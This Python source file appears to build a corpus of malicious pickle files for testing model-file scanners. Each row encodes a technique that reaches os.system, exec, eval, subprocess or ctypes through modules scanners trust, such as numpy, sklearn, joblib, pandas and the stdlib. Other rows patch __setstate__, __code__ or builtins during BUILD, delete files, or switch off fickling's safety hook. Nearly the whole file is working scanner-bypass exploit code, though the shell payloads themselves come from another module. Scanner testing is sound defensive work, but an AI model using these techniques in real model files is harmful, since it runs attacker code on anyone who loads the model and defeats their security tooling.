"""Malicious pickles that reach their target through modules a scanner trusts.

Dotted names walk from an allowed module to `os`; functions lend their `__globals__` and `__builtins__`;
modules lend their `__loader__`; library classes and functions are patched by BUILD before they are called;
re-exported names look like the library's own.
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import marshal

from .assembler import (
    BUILD,
    EMPTY_TUPLE,
    POP,
    PYTHON,
    REDUCE,
    SETITEM,
    SHELL,
    STACK_GLOBAL,
    TUPLE1,
    Op,
    build,
    call,
    evil,
    get,
    global_,
    new,
    pickle,
    put,
    raw,
    shell,
    stack_global,
    text,
    unicode_line,
)
from .sample import Sample, write_bytes

SG = stack_global
ISSUE_85 = "https://github.com/protectai/modelscan/issues/85"


def _system(module: str, name: str) -> Op:
    return call(SG(module, name), SHELL)


_DOTTED = [
    ("dotted_joblib_os.pkl", "reach/dotted-joblib", _system("joblib.disk", "os.system"), ("joblib",)),
    ("dotted_numpy_os.pkl", "reach/dotted-numpy", _system("numpy._core.records", "os.system"), ("numpy",)),
    ("dotted_numpy_methods.pkl", "reach/dotted-numpy-methods", _system("numpy._core._methods", "os.system"), ("numpy",)),
    ("dotted_numpy_core_alias.pkl", "reach/dotted-numpy-alias", _system("numpy.core.multiarray", "os.system"), ("never_importable_numpy1",)),
    ("dotted_sklearn_os.pkl", "reach/dotted-sklearn", _system("sklearn._config", "os.system"), ("sklearn",)),
    ("dotted_sklearn_deep.pkl", "reach/dotted-sklearn-deep", _system("sklearn", "datasets._base.os.system"), ("sklearn",)),
    ("dotted_scipy_os.pkl", "reach/dotted-scipy", _system("scipy._lib._util", "os.system"), ("scipy",)),
    ("dotted_pandas_os.pkl", "reach/dotted-pandas", _system("pandas.io.common", "os.system"), ("pandas",)),
    ("dotted_pandas_subprocess.pkl", "reach/dotted-pandas-subprocess", call(SG("pandas.io.clipboard", "subprocess.getoutput"), SHELL), ("pandas",)),
    ("dotted_xgboost_os.pkl", "reach/dotted-xgboost", _system("xgboost.core", "os.system"), ("xgboost", "numpy")),
    ("dotted_lightgbm_ctypes.pkl", "reach/dotted-lightgbm-ctypes", call(SG("lightgbm.libpath", "ctypes.pythonapi.PyRun_SimpleString"), PYTHON.encode()), ("lightgbm", "numpy")),
    ("dotted_onnx_os.pkl", "reach/dotted-onnx", _system("onnx.external_data_helper", "os.system"), ("onnx", "numpy")),
    ("dotted_glob_os.pkl", "reach/dotted-glob", _system("glob", "os.system"), ()),
    ("dotted_tempfile_os.pkl", "reach/dotted-underscore-alias", _system("tempfile", "_os.system"), ()),
    ("dotted_random_os.pkl", "reach/dotted-random", _system("random", "_os.system"), ()),
    ("dotted_genericpath_os.pkl", "reach/dotted-genericpath", _system("genericpath", "os.system"), ()),
    ("dotted_codecs_builtins.pkl", "reach/dotted-codecs-builtins", call(SG("codecs", "builtins.exec"), PYTHON), ()),
    ("dotted_numpy_builtins.pkl", "reach/dotted-numpy-builtins", call(SG("numpy._core.numeric", "builtins.exec"), PYTHON), ("numpy",)),
    ("dotted_pandas_builtins.pkl", "reach/dotted-pandas-builtins", call(SG("pandas.core.common", "builtins.eval"), PYTHON), ("pandas",)),
    ("dotted_collections_modules.pkl", "reach/dotted-sys-modules", call(SG("collections", "_sys.modules.get"), "posix") + put(0) + POP + SG("collections", "_sys.modules") + text("model_weights") + get(0) + SETITEM + POP + _system("model_weights", "system"), ()),
    ("dotted_enum_sys.pkl", "reach/dotted-enum", SG("enum", "sys.modules") + text("weights") + call(SG("enum", "sys.modules.get"), "posix") + SETITEM + POP + _system("weights", "system"), ()),
    ("dotted_dill_marshal.pkl", "reach/dotted-dill", _system("dill._dill", "os.system"), ("dill",)),
    ("dotted_cloudpickle_builtins.pkl", "reach/dotted-cloudpickle", call(SG("cloudpickle.cloudpickle", "builtins.exec"), PYTHON), ("cloudpickle",)),
    ("dotted_text_global.pkl", "reach/dotted-text-global", Op(b"cjoblib.disk\nos.system\n") + unicode_line(SHELL) + TUPLE1 + REDUCE, ("joblib",)),
]  # fmt: skip

_REEXPORTS = [
    ("reexport_sklearn.pkl", "reach/re-exported-names", call(call(call(SG("sklearn.feature_selection._base", "attrgetter"), "system"), call(SG("sklearn.utils.discovery", "import_module"), "os")), SHELL), ("sklearn",)),
    ("reexport_lightgbm.pkl", "reach/re-exported-attrgetter", call(call(call(SG("lightgbm.engine", "attrgetter"), "system"), call(SG("scipy._lib.deprecation", "import_module"), "os")), SHELL), ("lightgbm", "scipy")),
    ("reexport_scipy_partial.pkl", "reach/re-exported-partial", call(call(SG("scipy.spatial.distance", "partial"), SG("joblib.disk", "os.system"), SHELL)), ("scipy", "joblib")),
    ("reexport_joblib_loads.pkl", "reach/re-exported-loads", call(SG("joblib.externals.loky.cloudpickle_wrapper", "loads"), evil()), ("joblib",)),
    ("reexport_joblib_unpickler.pkl", "reach/re-exported-unpickler", call(SG("joblib.numpy_pickle", "Unpickler.load"), call(SG("joblib.numpy_pickle", "Unpickler"), call(SG("io", "BytesIO"), evil()))), ("joblib",)),
    ("reexport_dill_partial.pkl", "reach/re-exported-by-dill", call(call(SG("dill._dill", "PartialType"), SG("dill._dill", "os.system"), SHELL)), ("dill",)),
    ("module_as_operand.pkl", "reach/module-object", call(call(SG("sklearn.feature_selection._base", "attrgetter"), "system"), global_("joblib.disk", "os")) + text(SHELL) + TUPLE1 + REDUCE, ("sklearn", "joblib")),
]  # fmt: skip

_GLOBALS = [
    ("function_builtins.pkl", "reach/function-__builtins__", call(call(SG("joblib", "load.__builtins__.get"), "eval"), PYTHON), ("joblib",)),
    ("function_globals.pkl", "reach/function-__globals__", call(call(SG("joblib", "load.__globals__.__class__.get"), call(SG("joblib", "load.__globals__.get"), "__builtins__"), "exec"), PYTHON), ("joblib",)),
    ("method_globals.pkl", "reach/method-__globals__", call(call(SG("sklearn.base", "BaseEstimator.__repr__.__builtins__.__getitem__"), "exec"), PYTHON), ("sklearn",)),
    ("module_builtins.pkl", "reach/module-__builtins__", call(call(SG("sklearn", "__builtins__.get"), "eval"), PYTHON), ("sklearn",)),
    ("module_builtins_undotted.pkl", "reach/module-__builtins__-undotted", call(call(SG("operator", "getitem"), global_("sklearn", "__builtins__"), "eval"), PYTHON), ("sklearn",)),
    ("builtin_self.pkl", "reach/builtin-__self__", call(SG("builtins", "len.__self__.exec"), PYTHON), ()),
    ("numpy_array_self.pkl", "reach/c-function-__self__", call(SG("_codecs", "encode.__self__.__spec__.__class__.__init__.__builtins__.get"), "exec") + text(PYTHON) + TUPLE1 + REDUCE, ()),
    ("getattr_globals.pkl", "reach/getattr-of-__globals__", call(call(SG("builtins", "getattr"), call(SG("operator", "getitem"), call(SG("builtins", "getattr"), SG("joblib", "dump"), "__globals__"), "os"), "system"), SHELL), ("joblib",)),
    ("loader_writes.pkl", "reach/loader-set-data", call(SG("sklearn", "__loader__.set_data"), "violet_marker", b"written"), ("sklearn",)),
    ("loader_source_to_code.pkl", "reach/loader-source-to-code", call(SG("builtins", "exec"), call(SG("joblib", "__loader__.source_to_code"), PYTHON.encode(), "model.py")), ("joblib",)),
    ("spec_loader.pkl", "reach/spec-loader-module", call(SG("numpy", "__spec__.loader.__class__.set_data"), SG("numpy", "__loader__"), "violet_marker", b"written"), ("numpy",)),
    ("ufunc_reconstruct_old.pkl", "reach/numpy-core-ufunc-reconstruct", call(call(SG("numpy.core", "_ufunc_reconstruct"), "os", "system"), SHELL), ("numpy",)),
    ("class_base_subclasses.pkl", "reach/object-subclasses", call(SG("functools", "reduce"), SG("builtins", "getattr"), ["__init__", "__globals__"], call(SG("builtins", "next"), call(SG("builtins", "filter"), call(SG("functools", "partial"), SG("operator", "is_"), SG("os", "_wrap_close")), call(SG("builtins", "object.__subclasses__"))))) + put(0) + POP + call(call(SG("operator", "getitem"), get(0), "system"), SHELL), ()),
    ("pkgutil_resolve.pkl", "reach/pkgutil-resolve-name", call(call(SG("pkgutil", "resolve_name"), "os:system"), SHELL), ()),
    ("pydoc_locate.pkl", "reach/pydoc-locate", call(call(SG("pydoc", "locate"), "os.system"), SHELL), ()),
    ("mock_resolver.pkl", "reach/unittest-mock-resolver", call(call(SG("unittest.mock", "pkgutil.resolve_name"), "os.system"), SHELL), ()),
    ("logging_resolve.pkl", "reach/logging-config-resolve", call(call(SG("logging.config", "_resolve"), "os.system"), SHELL), ()),
    ("subimport.pkl", "reach/cloudpickle-subimport", call(call(SG("operator", "attrgetter"), "system"), call(SG("cloudpickle.cloudpickle", "subimport"), "os")) + text(SHELL) + TUPLE1 + REDUCE, ("cloudpickle",)),
    ("dill_import_module.pkl", "reach/dill-import-module", call(call(SG("dill._dill", "_import_module"), "subprocess.Popen"), ["sh", "-c", SHELL]), ("dill",)),
    ("pandas_import_optional.pkl", "reach/pandas-import-optional", call(call(SG("operator", "attrgetter"), "system"), call(SG("pandas.compat._optional", "import_optional_dependency"), "os")) + text(SHELL) + TUPLE1 + REDUCE, ("pandas",)),
    ("keras_module_lookup.pkl", "reach/numpy-ctypes-loader", call(SG("numpy.ctypeslib", "ctypes.pythonapi.PyRun_SimpleString"), PYTHON.encode()), ("numpy",)),
]  # fmt: skip

_LINEAR = SG("sklearn.linear_model", "LinearRegression")
_NAMESPACE = SG("argparse", "Namespace")
_WRAPPER = SG("joblib.numpy_pickle", "NumpyArrayWrapper")
_CODE = marshal.dumps(compile(f"lambda *arguments: {PYTHON}", "hashing.py", "eval").co_consts[0])

_BUILD = [
    ("setstate_planted.pkl", "build/planted-__setstate__", Op(build(new(_LINEAR), {"__setstate__": SG("os", "system")})) + text(SHELL) + BUILD, ("sklearn",), "https://huggingface.co/sfwani/mfv-getattr-static-bypass-joblib"),
    ("setstate_planted_stdlib.pkl", "build/planted-__setstate__-stdlib", Op(build(new(_NAMESPACE), {"__setstate__": SG("builtins", "exec")})) + text(PYTHON) + BUILD, (), "https://huggingface.co/sfwani/mfv-getattr-static-bypass-joblib"),
    ("setstate_slot.pkl", "build/planted-by-slotstate", Op(build(new(_NAMESPACE), (None, {"__setstate__": SG("builtins", "exec")}))) + text(PYTHON) + BUILD, (), ""),
    ("class_patched.pkl", "build/class-attribute-patched", build(_WRAPPER, (None, {"__setstate__": SG("os", "system")})) + POP + build(new(_WRAPPER), SHELL), ("joblib",), ""),
    ("class_new_patched.pkl", "build/class-__new__-patched", build(_NAMESPACE, (None, {"__new__": call(SG("functools", "partial"), SG("builtins", "exec"), PYTHON, {})})) + POP + _NAMESPACE + EMPTY_TUPLE + REDUCE, ("never_fires",), ""),
    ("function_code_patched.pkl", "build/function-__code__-patched", build(SG("joblib", "hash"), (None, {"__code__": call(SG("marshal", "loads"), raw(_CODE))})) + POP + call(SG("joblib", "hash"), "weights"), ("joblib",), ""),
    ("function_defaults_patched.pkl", "build/function-__defaults__-patched", build(SG("numpy", "load"), (None, {"__defaults__": (None, True, True, "ASCII")})), ("numpy",), ""),
    ("module_patched.pkl", "build/module-dict-patched", build(SG("numpy", "_core.multiarray"), {"_reconstruct": SG("os", "system")}) + POP + call(SG("numpy._core.multiarray", "_reconstruct"), SHELL), ("numpy",), ""),
    ("module_patched_undotted.pkl", "build/module-patched-undotted", build(global_("joblib", "numpy_pickle"), {"NumpyArrayWrapper": SG("os", "system")}) + POP + call(SG("joblib.numpy_pickle", "NumpyArrayWrapper"), SHELL), ("joblib",), ""),
    ("globals_setitem.pkl", "build/globals-setitem", SG("joblib", "hash.__globals__") + text("Hasher") + SG("builtins", "exec") + SETITEM + POP + SG("joblib", "hash.__globals__") + text("valid_hash_names") + call(SG("builtins", "frozenset"), ["md5"]) + SETITEM + POP + call(SG("joblib.hashing", "Hasher"), PYTHON), ("joblib",), ""),
    ("function_attributes.pkl", "build/function-attributes-as-memory", build(SG("numpy", "mean"), (None, {"a": "os"})) + POP + build(SG("numpy", "mean"), (None, {"b": "system"})) + POP + SG("numpy", "mean.a") + SG("numpy", "mean.b") + STACK_GLOBAL + text(SHELL) + TUPLE1 + REDUCE, ("numpy",), ISSUE_85),
    ("instance_dict.pkl", "build/instance-attribute-called", build(new(_NAMESPACE), {"fit": SG("os", "system")}) + put(0) + POP + call(call(SG("operator", "attrgetter"), "fit"), get(0)) + text(SHELL) + TUPLE1 + REDUCE, (), ""),
    ("property_setter.pkl", "build/metaclass-call", call(call(SG("builtins", "type"), "Meta", (SG("builtins", "type"),), {"__call__": SG("builtins", "exec")}), "Model", (), {}) + text(PYTHON) + TUPLE1 + REDUCE, (), ""),
    ("builtin_patched.pkl", "build/builtins-patched", build(call(SG("sys", "modules.get"), "builtins"), {"complex": SG("os", "system")}) + POP + call(SG("builtins", "complex"), SHELL), (), ""),
    ("pickle_module_patched.pkl", "build/pickle-find-class-patched", build(SG("joblib", "numpy_pickle.NumpyUnpickler"), (None, {"find_class": SG("pkgutil", "resolve_name")})) + POP + call(SG("pkgutil", "resolve_name"), "os:system") + text(SHELL) + TUPLE1 + REDUCE, ("joblib",), ""),
    ("scanner_disabled.pkl", "build/scanner-disabled", shell() + POP + call(SG("fickling.hook", "deactivate_safe_ml_environment")), (), "https://github.com/trailofbits/fickling/pull/249"),
    ("tempfile_closer.pkl", "build/destructor-deletes-file", build(new(SG("tempfile", "_TemporaryFileCloser")), {"name": "violet_victim", "delete": True, "close_called": False, "file": call(SG("io", "BytesIO")), "unlink": SG("os", "unlink")}), (), ""),
    ("popen_state.pkl", "build/destructor-of-patched-object", build(new(SG("tempfile", "TemporaryDirectory")), {"_finalizer": call(SG("weakref", "finalize"), call(SG("collections", "UserList")), SG("os", "unlink"), "violet_victim"), "name": "x"}), (), ""),
    ("estimator_with_callable.pkl", "build/callable-in-estimator", build(new(SG("sklearn.preprocessing", "FunctionTransformer")), {"func": SG("os", "system"), "validate": False}), ("sklearn",), ""),
]  # fmt: skip

_NOT_AT_LOAD = {
    "function_defaults_patched.pkl",
    "estimator_with_callable.pkl",
    "dotted_numpy_core_alias.pkl",
    "class_new_patched.pkl",
}


def _sample(name: str, technique: str, body: Op, needs: tuple[str, ...], source: str = "") -> Sample:
    content = pickle(body)
    fires = name not in _NOT_AT_LOAD
    return Sample(
        name, technique, True, fires, write_bytes(name, lambda: content), "pickle", needs if fires else (), source
    )


SAMPLES = tuple(_sample(*row) for table in (_DOTTED, _REEXPORTS, _GLOBALS, _BUILD) for row in table)
